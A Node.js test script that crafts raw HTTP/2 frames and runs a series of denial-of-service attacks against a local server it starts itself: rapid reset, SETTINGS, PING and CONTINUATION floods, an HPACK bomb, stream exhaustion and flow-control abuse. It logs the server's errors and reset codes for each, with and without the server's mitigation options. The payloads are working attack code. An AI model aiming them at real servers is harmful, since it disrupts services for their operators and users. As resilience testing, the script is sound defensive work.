// Peers that attack: floods, bombs, stalls. Each ends with an error of the session, a reset of the stream, or nothing at
// all, and a count of what the server did before it noticed.
"use strict";
const http2 = require("node:http2");
const net = require("node:net");

const MAGIC = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
function frame(type, flags, id, payload = Buffer.alloc(0)) {
  const bytes = Buffer.alloc(9 + payload.length);
  bytes.writeUIntBE(payload.length, 0, 3);
  bytes[3] = type;
  bytes[4] = flags;
  bytes.writeUInt32BE(id, 5);
  payload.copy(bytes, 9);
  return bytes;
}
const hex = (text) => Buffer.from(text, "hex");
const repeat = (count, make) => Buffer.concat(Array.from({ length: count }, (_, i) => make(i)));
const GET = hex("828684410161");
const SETTINGS = frame(4, 0, 0);

const LAST = Buffer.from("lastlast");
const LAST_ANSWER = frame(6, 1, 0, LAST);

/** What the server sent, beside answers to SETTINGS and PING: resets and GOAWAYs with their codes. */
function verdicts(bytes) {
  const seen = new Map();
  for (let at = 0; bytes.length - at >= 9; at += 9 + bytes.readUIntBE(at, 3)) {
    const code = (offset) => (bytes.length < at + 13 + offset ? "?" : bytes.readUInt32BE(at + 9 + offset));
    const what = bytes[at + 3] === 3 ? `reset ${code(0)}` : bytes[at + 3] === 7 ? `goaway ${code(4)}` : undefined;
    if (what) seen.set(what, (seen.get(what) ?? 0) + 1);
  }
  return seen;
}

/**
 * Sends bytes to a server of its own once the server's first bytes are there. It is over when the server has ended the
 * session, or has answered what comes after those bytes.
 */
function attack(name, bytes, { reads = true, responds = false, consumes = true, ...options } = {}) {
  return new Promise((done) => {
    const seen = new Map();
    const count = (what) => seen.set(what, (seen.get(what) ?? 0) + 1);
    const got = [];
    let client;
    const server = http2.createServer(options);
    server.on("session", (session) => {
      session.on("error", (error) => {
        count(`session ${error.code}: ${error.message}`);
        client.resume();
      });
    });
    server.on("stream", (stream) => {
      count("stream");
      stream.on("error", (error) => count(`stream ${error.code}: ${error.message}`));
      if (consumes) stream.resume();
      if (!responds) return;
      stream.respond();
      stream.end(Buffer.alloc(1 << 20));
    });
    server.listen(0, "127.0.0.1", () => {
      client = net.connect(server.address().port, "127.0.0.1");
      client.on("error", () => {});
      client.on("data", (chunk) => {
        got.push(chunk);
        if (got.length === 1) {
          if (!reads) client.pause();
          client.write(Buffer.concat([bytes, frame(6, 0, 0, LAST)]));
        }
        if (Buffer.concat(got.slice(-2)).includes(LAST_ANSWER)) client.destroy();
      });
      client.on("end", () => client.destroy());
      client.on("close", () =>
        server.close(() => {
          console.log(name, seen, verdicts(Buffer.concat(got)));
          done();
        }),
      );
      client.write(Buffer.concat([MAGIC, SETTINGS]));
    });
  });
}

/** A block that puts one long field into the table and then names it over and over: an HPACK bomb. */
function bomb(times) {
  const value = Buffer.alloc(3900, "v");
  const literal = Buffer.concat([hex("40016b7f"), varint(value.length - 127), value]);
  return Buffer.concat([GET, literal, Buffer.alloc(times, 0xbe)]);
}
function varint(number) {
  const bytes = [];
  let rest = number;
  for (; rest >= 128; rest >>= 7) bytes.push((rest & 127) | 128);
  return Buffer.from([...bytes, rest]);
}

(async () => {
  const open = frame(1, 4, 1, GET);
  await attack("rapid reset", repeat(1500, (i) => Buffer.concat([frame(1, 5, 2 * i + 1, GET), frame(3, 0, 2 * i + 1, hex("00000008"))])));
  await attack("rapid reset, limited", repeat(50, (i) => Buffer.concat([frame(1, 5, 2 * i + 1, GET), frame(3, 0, 2 * i + 1, hex("00000008"))])), {
    streamResetBurst: 10,
    streamResetRate: 1,
  });
  await attack("settings flood", repeat(3000, () => SETTINGS), { reads: false });
  await attack("ping flood", repeat(3000, () => frame(6, 0, 0, Buffer.alloc(8))), { reads: false });
  await attack("continuation flood", Buffer.concat([frame(1, 1, 1, GET), repeat(5000, () => frame(9, 0, 1, hex("4001610162")))]));
  await attack("empty data flood", Buffer.concat([open, repeat(5000, () => frame(0, 0, 1))]));
  await attack("empty data flood, limited", Buffer.concat([open, repeat(50, () => frame(0, 0, 1))]), { maxSessionInvalidFrames: 5 });
  await attack("priority flood", repeat(20000, () => frame(2, 0, 3, hex("0000000110"))));
  await attack("unknown flood", repeat(20000, () => frame(200, 0, 0)));
  await attack("hpack bomb", Buffer.concat([frame(1, 5, 1, bomb(16000 - 4200))]));
  await attack("hpack bomb, many pairs", Buffer.concat([frame(1, 5, 1, bomb(16000 - 4200))]), {
    maxHeaderListPairs: 100_000,
    settings: { maxHeaderListSize: 1 << 24 },
    maxSessionMemory: 1,
  });
  await attack("many pairs", Buffer.concat([frame(1, 5, 1, Buffer.concat([GET, repeat(200, () => hex("4001610162"))]))]));
  await attack("many streams", Buffer.concat([repeat(400, (i) => frame(1, 4, 2 * i + 1, GET))]), {
    settings: { maxConcurrentStreams: 10 },
    maxSessionRejectedStreams: 5,
  });
  await attack("window beyond", Buffer.concat([open, repeat(40000, () => frame(8, 0, 1, hex("00010000")))]));
  await attack("more than the window", Buffer.concat([open, repeat(5, () => frame(0, 0, 1, Buffer.alloc(16384)))]), {
    consumes: false,
  });
  await attack("a stalled window", Buffer.concat([frame(4, 0, 0, hex("000400000000")), repeat(30, (i) => frame(1, 5, 2 * i + 1, GET))]), {
    responds: true,
  });
  await attack("huge lengths", Buffer.concat([hex("ffffff0104000000017fffffff"), Buffer.alloc(100)]));
  console.log("done");
})();
